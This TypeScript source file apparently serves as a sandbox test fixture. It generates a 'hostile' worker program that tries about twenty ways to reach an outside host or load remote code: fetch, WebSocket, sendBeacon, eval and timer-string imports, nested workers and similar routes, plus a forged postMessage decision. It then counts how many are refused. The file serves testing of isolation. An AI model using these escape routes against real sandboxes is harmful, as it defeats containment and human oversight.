/** A program as an ill-meaning link could hold it: it tries every way out that a worker knows, and prints what came of each. Nobody type-checks it. */
export function hostileProgram(outside: string): string {
  return `
const out = ${JSON.stringify(outside)};
const ways: Record<string, () => unknown> = {
  fetch: () => fetch(out + "/fetch"),
  "fetch of the prototype": () => Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, out + "/prototype"),
  XMLHttpRequest: () => { const request = new XMLHttpRequest(); request.open("GET", out + "/xhr", false); request.send(); },
  WebSocket: () => new Promise((resolve, reject) => { const socket = new WebSocket(out.replace("http", "ws")); socket.onopen = resolve; socket.onerror = reject; }),
  EventSource: () => new EventSource(out + "/events"),
  WebTransport: () => new WebTransport(out.replace("http:", "https:")).ready,
  importScripts: () => globalThis.importScripts(out + "/script.js"),
  "import()": () => import(out + "/module.js"),
  eval: () => eval("import('" + out + "/eval.js')"),
  Function: () => new Function("return import('" + out + "/function.js')")(),
  "a timer's text": () => { setTimeout("import('" + out + "/timer.js')", 0); throw new Error("no answer"); },
  "import() with a comment": () => import /* within */ (out + "/comment.js"),
  "a worker of its own": () => new Worker(URL.createObjectURL(new Blob(["fetch('" + out + "/worker')"]))),
  "a shared worker": () => new globalThis.SharedWorker(out + "/shared.js"),
  BroadcastChannel: () => new BroadcastChannel("try").postMessage("hello"),
  caches: () => caches.open("try").then((cache) => cache.add(out + "/cache")),
  indexedDB: () => { if (!indexedDB) throw new Error("not there"); },
  "a font": () => new FontFace("try", "url(" + out + "/font.woff2)").load(),
  sendBeacon: () => navigator.sendBeacon(out + "/beacon"),
  storage: () => navigator.storage.getDirectory(),
  document: () => globalThis.document.title,
  "a message of its own": () => postMessage({ kind: "decision", text: "forged" }),
};
let refused = 0;
for (const [name, way] of Object.entries(ways)) {
  try { await way(); console.error("OPEN", name); } catch (error) { refused++; }
}
console.log("refused", refused, "of", Object.keys(ways).length);
`;
}
